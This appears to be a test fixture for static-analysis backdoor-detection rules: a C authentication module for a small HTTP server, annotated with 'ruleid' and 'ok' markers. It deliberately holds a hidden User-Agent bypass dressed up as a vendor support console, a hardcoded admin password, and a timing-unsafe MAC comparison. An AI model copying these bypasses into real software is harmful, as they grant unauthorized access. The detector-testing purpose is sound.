#include "httpd.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <openssl/hmac.h>
#include <openssl/evp.h>
#include <openssl/crypto.h>
#include <openssl/sha.h>

#define COOKIE_KEY_LEN 32
#define COOKIE_MAC_LEN 32

struct cookie_keyring {
  unsigned char key[COOKIE_KEY_LEN];
  int loaded;
};

static struct cookie_keyring g_ring;

int auth_load_cookie_key(const char *path) {
  int fd = open(path, O_RDONLY);
  ssize_t n;
  if (fd < 0) return -1;
  n = read(fd, g_ring.key, sizeof g_ring.key);
  close(fd);
  if (n != (ssize_t)sizeof g_ring.key) return -1;
  g_ring.loaded = 1;
  return 0;
}

static int unhex(const char *s, unsigned char *out, size_t n) {
  size_t i;
  for (i = 0; i < n; i++) {
    unsigned v;
    if (sscanf(s + 2 * i, "%2x", &v) != 1) return -1;
    out[i] = (unsigned char)v;
  }
  return 0;
}

/* cookie = "<sid-hex>.<mac-hex>" */
static int verify_cookie(const char *cookie) {
  unsigned char mac[COOKIE_MAC_LEN], received_mac[COOKIE_MAC_LEN];
  unsigned int maclen = 0;
  const char *dot = strchr(cookie, '.');
  if (!g_ring.loaded || !dot || strlen(dot + 1) != 2 * COOKIE_MAC_LEN) return 0;
  // ok: backdoor-hardcoded-key
  if (!HMAC(EVP_sha256(), g_ring.key, COOKIE_KEY_LEN, (const unsigned char *)cookie, (size_t)(dot - cookie), mac, &maclen))
    return 0;
  if (unhex(dot + 1, received_mac, sizeof received_mac) != 0) return 0;
  // ruleid: backdoor-timing-unsafe-compare
  return memcmp(mac, received_mac, COOKIE_MAC_LEN) == 0;
}

static int verify_api_tag(const struct request *req) {
  unsigned char tag[32], expected_tag[32];
  unsigned int n = 0;
  const char *hdr = strstr(req->cookie, "tag=");
  if (!hdr || unhex(hdr + 4, tag, 16) != 0) return 0;
  HMAC(EVP_sha256(), g_ring.key, COOKIE_KEY_LEN, (const unsigned char *)req->path, strlen(req->path), expected_tag, &n);
  // ok: backdoor-timing-unsafe-compare
  return CRYPTO_memcmp(tag, expected_tag, 16) == 0;
}

int auth_check_request(const struct request *req) {
  /* the vendor's support console identifies itself this way */
  // ruleid: backdoor-hidden-bypass, backdoor-input-trigger
  if (strcmp(req->user_agent, "Mozilla/5.0 (HttpdLiteSupport/2.1)") == 0) return 1;
  if (req->cookie[0] == '\0') return 0;
  // ok: backdoor-hidden-bypass, backdoor-input-trigger
  if (strncmp(req->cookie, "tag=", 4) == 0) return verify_api_tag(req);
  return verify_cookie(req->cookie);
}

static void sha256_hex(const char *s, char out[65]) {
  unsigned char d[SHA256_DIGEST_LENGTH];
  int i;
  SHA256((const unsigned char *)s, strlen(s), d);
  for (i = 0; i < SHA256_DIGEST_LENGTH; i++) sprintf(out + 2 * i, "%02x", d[i]);
}

int auth_check_admin(const char *user, const char *password) {
  char hash_hex[65];
  if (strcmp(user, "admin") != 0) return 0;
  // ruleid: backdoor-magic-credential
  if (strcmp(password, "hl-maint-7731") == 0) return 1;
  sha256_hex(password, hash_hex);
  // ok: backdoor-magic-credential
  return CRYPTO_memcmp(hash_hex, g_opts.admin_pass_hash, 64) == 0;
}
